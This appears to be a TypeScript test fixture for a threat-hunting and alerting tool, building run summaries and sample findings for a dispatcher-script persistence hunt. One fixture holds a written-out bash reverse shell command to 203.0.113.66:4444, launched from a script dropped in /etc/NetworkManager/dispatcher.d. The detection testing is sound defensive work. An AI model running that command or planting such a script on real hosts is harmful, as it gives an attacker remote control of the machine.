import { entryFromFinding, type BaselineEntry } from '../../functions/core/baseline';
import type { Alert, AlertReport } from '../../functions/core/alert-report';
import { huntById } from '../../functions/core/hunts';
import { indicatorMatches, severityOf } from '../../functions/core/severity/finding-severity';
import type { HuntSummary, RunSummary } from '../../functions/core/run-summary';
import { childFinding, writeFinding } from './harness';
import type { Finding } from '../../functions/core/finding';

const NOW = '2026-11-25T02:00:03.000Z';

export function summary(over: Partial<RunSummary> = {}, hunts: Partial<HuntSummary>[] = [{}, {}, {}]): RunSummary {
  const ids = ['dispatcher-script-run', 'dispatcher-script-child', 'dispatcher-script-write'] as const;
  return {
    runId: 'run-2026-11-25',
    startedAt: NOW,
    finishedAt: '2026-11-25T02:00:07.000Z',
    durationMs: 4_000,
    outcome: 'succeeded',
    learning: false,
    dryRun: false,
    hunts: hunts.map((h, i) => ({ huntId: ids[i]!, status: 'ok', learning: false, learningEnded: false, rows: 12, truncated: false, warnings: 0, partial: false, new: 0, known: 12, learned: 0, ...h })),
    totals: { findings: 36, new: 0, republished: 0, known: 36, learned: 0, claimedElsewhere: 0, alerted: 0, unmarked: 0, huntsFailed: 0, huntsBlind: 0 },
    problems: [],
    ...over,
  };
}

export function alertFor(finding: Finding, novelty: string, republished = false): Alert {
  const hunt = huntById(finding.huntId)!;
  const entry: BaselineEntry = entryFromFinding(hunt, finding, 'pending', NOW);
  return { hunt, entry, novelty, republished, severity: severityOf(hunt, entry.indicators), indicators: indicatorMatches(entry.indicators) };
}

export const DROPPED_SCRIPT = writeFinding('/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', '/usr/bin/bash', {
  hostNames: ['web-03'],
  agentIds: ['5f1c2a9e-agent-web-03'],
  firstSeen: '2026-11-24T21:14:05.000Z',
  lastSeen: '2026-11-24T21:14:05.000Z',
});
export const REVERSE_SHELL = childFinding(
  '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh',
  '/usr/bin/nohup',
  "nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
  { hostNames: ['web-03'], agentIds: ['5f1c2a9e-agent-web-03'], eventCount: 3, firstSeen: '2026-11-24T21:15:40.000Z', lastSeen: '2026-11-25T01:15:40.000Z' },
);

export function newFindingsReport(alerts: Alert[], over: Partial<RunSummary> = {}): AlertReport {
  return { kind: 'new-findings', summary: summary({ totals: { ...summary().totals, new: alerts.length, alerted: alerts.length }, ...over }), alerts };
}
